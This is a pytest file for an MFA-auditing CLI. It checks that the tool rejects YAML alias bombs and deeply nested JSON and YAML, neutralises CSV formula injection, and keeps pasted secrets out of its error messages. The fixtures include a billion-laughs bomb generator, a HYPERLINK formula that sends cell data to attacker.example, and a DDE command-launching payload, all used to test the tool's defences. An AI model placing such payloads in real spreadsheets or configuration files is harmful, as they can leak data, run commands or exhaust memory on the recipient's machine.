"""Hostile input through the real CLI: YAML alias bombs, deeply nested JSON and YAML, CSV formula
injection from tenant text, and a secret pasted into the fleet file (issue 11, items 2, 3, 5, 10).

Every refusal is exit 2 with one line naming the file, never a traceback or ``internal error``.
"""

from __future__ import annotations

import csv
import io
import json
import resource
import subprocess
import sys
import time
from collections.abc import Sequence
from pathlib import Path

import pytest

from tests.builders.directory import write_snapshot
from tests.builders.signins import first_example, to_log_analytics, write_json, write_jsonl, write_page
from tests.conftest import SRC, run_cli

T1 = "00000000-0000-0000-0000-000000000001"
APP = "11111111-1111-1111-1111-111111111111"
FLEET_HEAD = f"tenants:\n  - name: a\n    tenant_id: {T1}\n    credential: {{type: token, env: TOK}}\n"

# Nine levels of nine: 387,420,489 strings once expanded, from 400 bytes.
BILLION_LAUGHS = 'lol: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n' + "".join(
    f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]\n" for i in range(1, 9)
)


def _limited() -> None:
    # On code that expands aliases the bomb would eat all memory: cap the child at 2 GiB.
    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))


def run_limited(args: Sequence[str], timeout: float = 60) -> tuple[subprocess.CompletedProcess[str], float]:
    """The real CLI with a memory cap and a deadline (how long it took, too)."""
    import os

    env = {k: v for k, v in os.environ.items() if not k.startswith("MFAGUARD_")}
    env.update(PYTHONPATH=str(SRC), NO_COLOR="1", COLUMNS="200")
    started = time.monotonic()
    try:
        result = subprocess.run(
            [sys.executable, "-m", "mfaguard", *args],
            capture_output=True,
            text=True,
            env=env,
            timeout=timeout,
            preexec_fn=_limited,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"mfaguard {' '.join(args)} still ran after {timeout} s")
    return result, time.monotonic() - started


def assert_input_error(result: subprocess.CompletedProcess[str], *fragments: str) -> None:
    assert result.returncode == 2, result.stderr
    line = result.stderr.strip()
    assert line.startswith("error: ") and "\n" not in line, result.stderr
    assert "Traceback" not in line and "internal error" not in line
    for fragment in fragments:
        assert fragment in line, (fragment, line)


# ---- item 2: YAML aliases -----------------------------------------------------------------------------


def test_a_billion_laughs_fleet_file_is_refused_at_once(tmp_path: Path) -> None:
    bomb = tmp_path / "fleet.yaml"
    bomb.write_text(FLEET_HEAD + BILLION_LAUGHS)
    assert len(bomb.read_bytes()) < 1000
    result, seconds = run_limited(["fleet", "audit", "--config", str(bomb)])
    assert_input_error(result, f"{bomb}:6:", "aliases")  # the first *l0
    assert seconds < 15  # the CLI's start-up; expanding the aliases would take minutes and gigabytes


def test_a_self_referencing_alias_is_refused(tmp_path: Path) -> None:
    loop = tmp_path / "audit.yaml"
    loop.write_text("break_glass_groups: &a\n  - *a\n")
    snapshot = Path(__file__).resolve().parents[1] / "fixtures" / "policies" / "compliant.json"
    result, _ = run_limited(["audit", "--snapshot", str(snapshot), "--config", str(loop)])
    assert_input_error(result, f"{loop}:2:", "aliases")


def test_an_alias_bomb_baseline_is_refused(tmp_path: Path) -> None:
    baseline = tmp_path / "baseline.yaml"
    baseline.write_text("name: bomb\n" + BILLION_LAUGHS)
    result, _ = run_limited(["baseline", "validate", str(baseline)])
    assert_input_error(result, f"{baseline}:3:", "aliases")


def test_deeply_nested_yaml_is_refused(tmp_path: Path) -> None:
    deep = tmp_path / "fleet.yaml"
    deep.write_text(FLEET_HEAD + "defaults:\n  tags: " + "[" * 5000 + "]" * 5000 + "\n")
    result, _ = run_limited(["fleet", "audit", "--config", str(deep)])
    assert_input_error(result, f"{deep}:6:", "nested more than 64 levels")


# ---- item 3: deeply nested JSON -----------------------------------------------------------------------

DEEP = "[" * 100_000 + "]" * 100_000


def test_deep_json_snapshot_is_an_input_error(tmp_path: Path) -> None:
    deep = tmp_path / "deep.json"
    deep.write_text(DEEP)
    policy = tmp_path / "policy.json"
    policy.write_text('{"@odata.context": "x", "authenticationMethodConfigurations": ' + DEEP + "}")
    for command in ("audit", "coverage"):
        for path in (deep, policy):
            result = run_cli([command, "--snapshot", str(path)])
            assert_input_error(result, f"{path}:", "nested too deeply")


def test_deep_json_signins_are_an_input_error(tmp_path: Path) -> None:
    records = first_example()
    record = dict(records[0], authenticationDetails=json.loads("[" * 900 + "]" * 900))
    arrays = tmp_path / "array.json"
    arrays.write_text(DEEP)
    inside = write_json(tmp_path / "inside.json", [*records[:3], {"id": "x", "deep": 1}])
    inside.write_text(inside.read_text().replace('"deep": 1', '"deep": ' + DEEP))
    page = write_page(tmp_path / "page.json", records[:2])
    page.write_text(page.read_text().replace('"value": [', '"value": [' + DEEP + ",", 1))
    lines = write_jsonl(tmp_path / "s.jsonl", [*records[:2], record])
    lines.write_text(lines.read_text() + '{"id": "y", "x": ' + DEEP + "}\n")
    # Log Analytics exports hold JSON in strings: the nesting hides in a string and is decoded later.
    la_status = write_jsonl(tmp_path / "la.jsonl", [dict(to_log_analytics(records[0]), Status=DEEP)])
    la_steps = write_jsonl(
        tmp_path / "la2.jsonl", [dict(to_log_analytics(records[0]), AuthenticationDetails=DEEP)]
    )
    for path in (arrays, inside, page, lines, la_status, la_steps):
        result = run_cli(["detect", "--signins", str(path), "--format", "json"])
        assert_input_error(result, f"{path}:", "nested too deeply")
    good = write_json(tmp_path / "good.json", records)
    result = run_cli(["detect", "--signins", str(good), "--audits", str(arrays)])
    assert_input_error(result, f"{arrays}:", "nested too deeply")


# ---- item 5: CSV formula injection --------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'


def test_detect_csv_neutralises_an_attacker_chosen_app_name(tmp_path: Path) -> None:
    records = [dict(r, appDisplayName=FORMULA) for r in first_example()]
    path = write_json(tmp_path / "s.json", records)
    result = run_cli(["detect", "--signins", str(path), "--format", "csv"])
    assert result.returncode == 1, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and all(row["apps"] == "'" + FORMULA for row in rows if row["apps"])
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_coverage_csv_neutralises_tenant_text(tmp_path: Path) -> None:
    snap = write_snapshot(tmp_path / "snap.json")
    doc = json.loads(snap.read_text())
    users = doc["directory"]["users"]
    users[0]["displayName"] = FORMULA
    users[1]["displayName"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    users[2]["displayName"] = "-2+3"
    snap.write_text(json.dumps(doc))
    out = tmp_path / "coverage.csv"
    result = run_cli(["coverage", "--snapshot", str(snap), "--format", "csv", "--output", str(out)])
    assert result.returncode in (0, 1), result.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    names = {row["displayName"] for row in rows}
    assert {"'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"} <= names
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# ---- item 10: a secret pasted into the fleet file is not echoed -----------------------------------------


@pytest.mark.parametrize(
    ("text", "where", "secret"),
    [
        (
            FLEET_HEAD.replace(
                "{type: token, env: TOK}",
                f"{{type: client_secret, client_id: {APP}, secret_env: 'Q~abcDEF8Q~secret.value_123'}}",
            ),
            ":4: tenants[0].credential.client_secret.secret_env:",
            "Q~abcDEF8Q~secret.value_123",
        ),
        (
            "store: postgresql://mfaguard:hunter2-pass@db.example/mfaguard\n" + FLEET_HEAD,
            ":1: store:",
            "hunter2-pass",
        ),
        (
            FLEET_HEAD + "dashboard:\n  users:\n    - {name: bob, password_hash: 'Correct-Horse-9'}\n",
            ":7: dashboard.users[0].password_hash:",
            "Correct-Horse-9",
        ),
        (
            FLEET_HEAD
            + "notifications:\n  - {type: webhook, url_env: 'https://hooks.example/services/T0/XyZsecret'}\n",
            ":6: notifications[0]",
            "XyZsecret",
        ),
    ],
)
def test_config_errors_say_where_never_what(tmp_path: Path, text: str, where: str, secret: str) -> None:
    config = tmp_path / "fleet.yaml"
    config.write_text(text)
    result = run_cli(["fleet", "audit", "--config", str(config)])
    assert_input_error(result, f"{config}{where}")
    assert secret not in result.stderr and secret not in result.stdout
